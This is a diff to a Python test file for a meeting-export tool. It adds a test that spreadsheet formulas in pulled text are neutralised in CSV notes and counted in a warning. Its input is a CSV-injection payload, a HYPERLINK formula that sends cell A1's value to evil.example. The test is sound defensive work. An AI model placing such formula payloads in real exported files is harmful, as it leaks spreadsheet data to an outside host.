@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import json
 import os
 import signal
 import subprocess
@@ -261,3 +262,30 @@ def test_items_that_are_not_meetings_are_passed_over(
     assert code == 0, stdout
     assert ids_in(out) == [meeting(0)["id"]]
     assert len(server.received) == (1 if kinds == "series" else 2)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
+def test_formulas_in_pulled_text_are_neutralised_in_notes_and_counted_in_fields(
+    hostile: Callable[[Answer], HostileServer], tmp_path: Path, suffix: str
+) -> None:
+    """CSV: a formula in a `#` note gets a leading apostrophe, one in a field (sent as is) is
+    kept exact and counted in a warning. JSON Lines is no spreadsheet: everything is exact."""
+    risky = {**meeting(0), "title": FORMULA, "agenda": "-3+4", "hostEmail": "@evil.example"}
+    server = hostile(paged(lambda _: ([risky, meeting(1)], None)))
+    out = tmp_path / f"pulled{suffix}"
+    code, stdout, _ = pull(server, out, "--fields", "title,agenda")
+    assert code == 0, stdout
+    if suffix == ".csv":
+        with out.open(newline="") as handle:
+            first = next(csv.DictReader(handle))
+        assert (first["title"], first["agenda"]) == (FORMULA, "-3+4")
+        assert (first["#title"], first["#host"]) == (f"'{FORMULA}", "'@evil.example")
+        assert "2 cells start with =, +, - or @: a spreadsheet may run them as formulas" in stdout
+    else:
+        first = json.loads(out.read_text().splitlines()[0])
+        assert first["changes"] == {"title": FORMULA, "agenda": "-3+4"}
+        assert (first["#title"], first["#host"]) == (FORMULA, "@evil.example")
+        assert "spreadsheet" not in stdout
